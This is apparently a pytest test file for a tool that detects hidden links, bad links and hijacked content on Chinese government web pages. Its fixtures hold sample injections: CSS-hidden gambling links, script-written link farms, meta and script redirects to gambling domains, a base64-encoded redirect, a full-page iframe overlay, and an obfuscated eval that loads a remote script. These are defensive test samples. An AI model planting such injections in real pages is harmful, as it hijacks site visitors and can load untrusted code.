"""Hidden and bad links, in what a document observes and in plain text; made-up observations stand for the documents."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

import govredact
from govredact.context.scan import LinkRules, Settings
from govredact.detectors import all_detectors
from govredact.documents.base import Document
from govredact.engine.plan import Plan
from govredact.engine.scanned import Scanned
from govredact.errors import PolicyError
from govredact.lexicon import Matcher, shipped
from govredact.models import Location, Observation, Origin, Passage
from govredact.tampering import phrases

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

MATCHER = Matcher.build(shipped("gambling", "hijack", "obscene"))


def is_spam(text: str) -> bool:
    return phrases.is_spam(text, MATCHER.find(text).keywords)


def plan(origin: Origin) -> Plan:
    wanted = [d for d in all_detectors() if d.name in ("hidden_link", "bad_link", "page_hijack")]
    settings = Settings(2026, "2026-11-29", links=LinkRules(own=("qingshan.cn",)), is_spam=is_spam)
    return Plan(wanted, MATCHER, settings, origin)


def link(address: str, **about: str) -> Observation:
    said = {"tag": "a", "attribute": "href", "anchor": "", "hidden": "", "rel": "", **about}
    return Observation("link", Location("html", line=1), address, ((0, 0, len(address)),), "", said)


def meta(field: str, text: str) -> Observation:
    return Observation("page_meta", Location("html", line=1), text, (), "", {"name": field, "field": field})


@pytest.fixture
def found() -> Callable[..., list[tuple[str, str, str]]]:
    def scan(*observations: Observation, text: str = "会议通知", url: str = "") -> list[tuple[str, str, str]]:
        class Page(Document):
            def passages(self) -> Iterator[Passage]:
                yield Passage(text)

            def observations(self) -> Iterator[Observation]:
                yield from observations

        scanned = Scanned(plan(Origin(url=url)), "page.html", Page(b"", "html"))
        for passage in Page(b"", "html").passages():
            scanned.add(passage)
        return [(item.candidate.entity, item.value, item.candidate.reasons[0]) for item in scanned.found(everything=False)]

    return scan


Found = "Callable[..., list[tuple[str, str, str]]]"
FOREIGN = "http://www.example-foreign.com/"


@pytest.mark.parametrize("trick", ["size", "color", "offscreen", "opacity", "zero_size", "clip"])
def test_a_foreign_link_hidden_by_a_trick(found: Found, trick: str) -> None:
    assert found(link(FOREIGN, hidden=trick, anchor="友情链接")) == [("HIDDEN_LINK", FOREIGN, f"hidden:{trick}")]


def test_menus_and_tabs_hide_links_too(found: Found) -> None:
    assert found(link(FOREIGN, hidden="display", anchor="栏目")) == []
    assert found(link("/col/1.html", hidden="size"), link("http://www.a.gov.cn/", hidden="size")) == []


def test_links_of_the_site_itself_and_its_counters_may_be_hidden(found: Found) -> None:
    own = "http://m.example-hospital.com/x"
    assert found(link(own, hidden="size"), url="http://www.example-hospital.com/") == []
    assert found(link(own, hidden="size"), link("http://www.example-hospital.com/", tag="link", rel="canonical")) == []
    assert found(link("http://www.qingshan.cn/", hidden="size"), link("https://hm.baidu.com/hm.js", tag="iframe", hidden="zero_size")) == []


def test_gambling_behind_what_is_not_shown(found: Found) -> None:
    assert found(link(FOREIGN, hidden="display", anchor="澳门新葡京官网")) == [("HIDDEN_LINK", FOREIGN, "hidden:display")]


def test_gambling_in_the_words_of_a_link(found: Found) -> None:
    assert found(link(FOREIGN, anchor="新葡京娱乐城官网")) == [("HIDDEN_LINK", FOREIGN, "spam_anchor")]
    assert found(link(FOREIGN, anchor="警方打击新葡京赌博网站")) == []
    assert found(link("http://www.people.com.cn/a", anchor="新葡京娱乐城")) == []


def test_a_redirect_to_a_suspicious_site(found: Found) -> None:
    bad = "https://www.bet36588.com/"
    assert ("HIDDEN_LINK", bad, "redirect") in found(link(bad, tag="meta", hidden="redirect"))
    assert ("HIDDEN_LINK", bad, "redirect") in found(link(bad, tag="script", attribute="location", hidden="script"))
    assert found(link(FOREIGN, tag="meta", hidden="redirect")) == []


def test_a_farm_of_links_that_a_script_writes(found: Found) -> None:
    farm = [link(f"http://www.example-{name}.com/", hidden="script", anchor="资讯") for name in ("one", "two", "three")]
    assert {reason for _, _, reason in found(*farm)} == {"link_farm"}
    assert found(*farm[:2]) == []


def test_a_link_that_shows_another_address(found: Found) -> None:
    assert found(link(FOREIGN, anchor="www.qingshan-county.cn")) == [("BAD_LINK", FOREIGN, "shown_as_another")]
    assert found(link(FOREIGN, anchor="http://www.example-foreign.com/apply")) == []
    assert found(link(FOREIGN, anchor="附件.docx下载")) == []


def test_addresses_into_the_internal_network(found: Found) -> None:
    assert found(link("http://10.1.2.3/oa")) == [("BAD_LINK", "http://10.1.2.3/oa", "internal_network")]
    assert found(link("file:///C:/a.doc")) == [("BAD_LINK", "file:///C:/a.doc", "local_path")]
    assert found(link("http://10.1.2.3/oa"), url="http://10.1.2.3/index.html") == []


def test_the_head_of_a_page_advertises(found: Found) -> None:
    title = "澳门新葡京官网_体育投注"
    assert found(meta("title", title)) == [("PAGE_HIJACK", title, "spam_in_head")]
    assert found(meta("title", "打击新葡京赌博网站专项行动")) == []
    assert found(meta("author", title)) == []


def test_junk_tags_that_the_document_saw(found: Found) -> None:
    junk = Observation("junk_tags", Location("html"), '<sup id="h4sia">', (), "", {"id": "h4sia", "count": "9"})
    assert found(junk) == [("PAGE_HIJACK", '<sup id="h4sia">', "junk_tags")]


def test_a_title_of_another_page_says_too_little_alone(found: Found) -> None:
    body = "为做好今年的防汛工作，各单位要落实责任，加强值班值守，及时排查隐患，确保群众生命财产安全。" * 6
    assert found(meta("title", "最新影视剧集大全免费下载"), text=body) == []


TEXTS = {
    '<a style="font-size:1px" href="http://a.example.net/x">链接</a>': "http://a.example.net/x",
    '<div style="position:absolute;left:-9999px"><a href="http://a.example.net/">链接</a></div>': "http://a.example.net/",
    '<div style="height:1px;overflow:hidden"><a href="http://a.example.net/">链接</a></div>': "http://a.example.net/",
    "[澳门新葡京官网](http://a.example.net/)": "http://a.example.net/",
    "<script>document.write('<a href=\"http://a.example.net/\">六合彩特码资料</a>');</script>": "http://a.example.net/",
}


@pytest.mark.parametrize(("text", "address"), TEXTS.items())
def test_markup_in_plain_text(text: str, address: str) -> None:
    found = govredact.Engine(entities={"HIDDEN_LINK"}).scan_text(text)
    assert [f.value for f in found] == [address]
    assert [(f.action, f.severity) for f in found] == [("review", "critical")]


def test_the_policy_rules_on_links(tmp_path: Path) -> None:
    (tmp_path / "expired.txt").write_text("# 已注销\nold-site.example\n", "utf-8")
    (tmp_path / "p.toml").write_text('[links]\nstrict = true\nallowed = ["paper.example"]\nexpired = ["expired.txt"]\n', "utf-8")
    engine = govredact.Engine(policy=str(tmp_path / "p.toml"))
    text = "见http://www.old-site.example/a、http://paper.example/b、http://shop.example/c、http://a.gov.cn/d"
    found = [(f.value, f.reasons) for f in engine.scan_text(text) if f.entity == "BAD_LINK"]
    assert found == [("http://www.old-site.example/a", ("refused_domain",)), ("http://shop.example/c", ("not_allowed_domain",))]
    (tmp_path / "expired.txt").unlink()
    with pytest.raises(PolicyError, match="cannot be read"):
        govredact.Engine(policy=str(tmp_path / "p.toml"))


def test_ordinary_links_are_no_findings() -> None:
    text = "报名网址https://www.example.com/apply?id=1，邮箱a@example.com，下载C:\\\\程序，[详情](http://www.example.org/x)"
    assert govredact.Engine(entities={"BAD_LINK", "HIDDEN_LINK"}).scan_text(text) == []


def test_a_saved_page_is_judged_as_a_whole() -> None:
    page = (
        '<html><head><meta charset="utf-8"><title>县政府召开会议</title><meta name="keywords" content="澳门新葡京官网,体育投注">'
        '<meta name="PubDate" content="2021-03-01"></head><body><p>县政府召开会议，部署防汛工作。</p><p>青山县教育局</p><p>2021年3月8日</p>'
        '<div style="position:absolute;left:-9999px"><a href="http://www.example-foreign.com/">友情链接</a></div>'
        "<script>document.write('<a href=\"http://a.be70000d4s.shop/\">六合彩</a>')</script></body></html>"
    )
    wanted = {"PAGE_HIJACK", "HIDDEN_LINK", "DATE_MISMATCH"}
    report = govredact.Engine(entities=wanted, as_of="2026-11-29").scan_file(page.encode(), "a.html")
    found = {(f.entity, f.value) for f in report.findings}
    assert ("PAGE_HIJACK", "澳门新葡京官网") in found
    assert ("HIDDEN_LINK", "http://www.example-foreign.com/") in found
    assert ("HIDDEN_LINK", "http://a.be70000d4s.shop/") in found
    assert ("DATE_MISMATCH", "2021-03-01") in found
    assert not any("县政府" in value for _, value in found)


def test_an_ordinary_saved_page_is_clean() -> None:
    page = (
        '<html><head><meta charset="utf-8"><title>工作动态-石桥县人民政府</title><link rel="canonical" href="http://www.qs.gov.cn/a.html"></head><body>'
        '<ul style="display:none"><li><a href="http://www.example.com/">菜单</a></li></ul><p>县政府召开常务会议。来源：石桥县人民政府</p>'
        '<script>var h=document.createElement("script");h.src="https://hm.baidu.com/hm.js?abc";</script>'
        '<a href="http://bszs.conac.cn/sitename">党政机关</a><a href="http://www.people.com.cn/">人民网</a></body></html>'
    )
    wanted = {"PAGE_HIJACK", "HIDDEN_LINK", "BAD_LINK", "DATE_MISMATCH", "REPRINT_SOURCE", "ADVERTISEMENT"}
    assert govredact.Engine(entities=wanted).scan_file(page.encode(), "a.html").findings == ()


NUMBERS = ",".join(str(ord(sign)) for sign in "load('https://a.bet88.cc/j.js')")
IMPOSED = {
    '<iframe src="https://www.hg0088.live/" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0"></iframe>': "overlay",
    '<meta http-equiv="refresh" content="0;url=https://www.ky6868.vip/">': "redirect",
    "<script>location.href='https://www.ky6868.vip/'</script>": "redirect",
    "<script>location.href=atob('aHR0cHM6Ly93d3cua3k2ODY4LnZpcC8=')</script>": "hidden:script",
    f"<script>eval(String.fromCharCode({NUMBERS}))</script>": "hidden:script",
}


@pytest.mark.parametrize("html", IMPOSED)
def test_what_is_imposed_on_the_reader_is_found(html: str) -> None:
    page = f"<html><head><title>通知</title></head><body>{html}<p>会议通知</p></body></html>"
    report = govredact.Engine(entities={"HIDDEN_LINK"}).scan_file(page.encode(), "page.html")
    assert [finding.reasons[0] for finding in report.findings] == [IMPOSED[html]]


@pytest.mark.parametrize(
    "html",
    [
        '<iframe src="https://map.example.com/" style="width:100%;height:400px"></iframe>',
        '<iframe src="/video.html" style="position:fixed;width:100%;height:100%"></iframe>',
        '<meta http-equiv="refresh" content="0;url=https://www.example.com/new/">',
        '<meta http-equiv="refresh" content="0;url=https://www.qingshan.gov.cn/">',
        "<script>fetch(atob('aHR0cHM6Ly93d3cucWluZ3NoYW4uZ292LmNuLw=='))</script>",
        "<script>var a = String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100,33,33)</script>",
    ],
)
def test_frames_and_moves_of_offices_are_left_alone(html: str) -> None:
    page = f"<html><head><title>通知</title></head><body>{html}<p>会议通知</p></body></html>"
    assert govredact.Engine(entities={"HIDDEN_LINK"}).scan_file(page.encode(), "page.html").findings == ()
